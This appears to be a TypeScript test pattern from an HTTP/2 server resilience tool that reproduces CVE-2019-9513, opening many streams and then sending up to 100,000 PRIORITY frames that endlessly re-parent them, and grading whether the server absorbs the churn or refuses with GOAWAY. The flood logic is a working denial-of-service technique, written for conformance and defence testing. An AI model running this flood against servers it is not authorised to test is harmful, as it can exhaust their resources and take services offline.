/** CVE-2019-9513: streams whose priorities are reshuffled without end, churning a priority tree. */
import { Engagement } from '../engagement.ts';
import { headersFrame, priorityFrame, requestBlock } from '../frames.ts';
import { answer, floodRefusal, notDelivered } from './answers.ts';
import { definePattern } from './types.ts';

/** Steps through the streams so that each PRIORITY moves a stream under a different parent. */
const PARENT_STRIDE = 7;

export default definePattern({
  id: 'resource-loop',
  title: 'Resource loop (priority churn)',
  cve: 'CVE-2019-9513',
  year: 2019,
  summary: 'requests on many streams, then PRIORITY frames that keep re-parenting them (exclusive and not, never self-dependent)',
  expected: 'PRIORITY is legal on any stream (§6.3) and may be ignored (§5.3.2): absorbed at bounded cost, or GOAWAY ENHANCE_YOUR_CALM (§10.5)',
  rfc: 'RFC 9113 §5.3.2, §6.3, §10.5',
  defaults: { streams: 100, frames: 100_000 },
  scaled: ['frames'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'PRIORITY frames', p.frames);
    const peer = await e.open({ handshake: true });
    if (peer !== null) {
      const streams = Math.max(2, Math.min(p.streams, peer.settings.maxConcurrentStreams ?? p.streams));
      const block = requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small });
      // the requests are the setup; the PRIORITY frames are the attack's units
      const requests = await peer.writeUnits(streams, (i) => headersFrame(2 * i + 1, block, { endStream: true, endHeaders: true }), ctx.budget);
      const id = (k: number): number => 2 * (k % streams) + 1;
      if (requests.stoppedBy !== 'done') e.sent({ units: 0, stoppedBy: requests.stoppedBy });
      else
        e.sent(
          await peer.writeUnits(
            p.frames,
            (i) => {
              const self = i % streams;
              let parent = (i * PARENT_STRIDE + 1) % streams;
              if (parent === self) parent = (parent + 1) % streams; // §5.3.1: a stream cannot depend on itself
              return priorityFrame(id(self), id(parent), i % 2 === 0, i & 0xff);
            },
            ctx.budget,
          ),
        );
    }
    return e.finish();
  },
  judge(o) {
    return notDelivered(o) ?? floodRefusal(o) ?? answer('expected', o, 'absorbed the priority churn, which §5.3.2 lets it ignore');
  },
});
